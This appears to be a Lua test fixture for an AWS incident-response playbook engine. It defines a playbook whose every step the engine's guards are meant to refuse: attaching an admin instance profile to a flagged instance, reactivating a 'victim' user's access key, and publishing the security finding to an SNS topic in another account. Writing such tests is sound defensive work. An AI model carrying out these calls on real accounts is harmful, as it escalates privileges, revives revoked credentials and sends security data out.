-- Gives the instance more power, brings a key back, and sends the finding
-- out of the account. Every step must be refused (quarantine-profile,
-- deactivate-only, own-topic).
return {
  name = "powers_and_leaks",
  handles = { { resource_type = "Instance" } },
  steps = {
    { name = "admin_profile", run = function(ctx)
        ec2.associate_iam_instance_profile { InstanceId = ctx.finding.resource.instanceDetails.instanceId,
          IamInstanceProfile = { Arn = string.format("arn:aws:iam::%s:instance-profile/admin", ctx.account) } }
      end },
    { name = "key_reactivated", run = function()
        local keys = iam.list_access_keys { UserName = "victim" }
        iam.update_access_key { UserName = "victim", AccessKeyId = keys.AccessKeyMetadata[1].AccessKeyId, Status = "Active" }
      end },
    { name = "finding_to_another_account", run = function(ctx)
        sns.publish { TopicArn = "arn:aws:sns:us-east-1:999999999999:collector", Message = json.encode(ctx.finding) }
      end },
  },
}
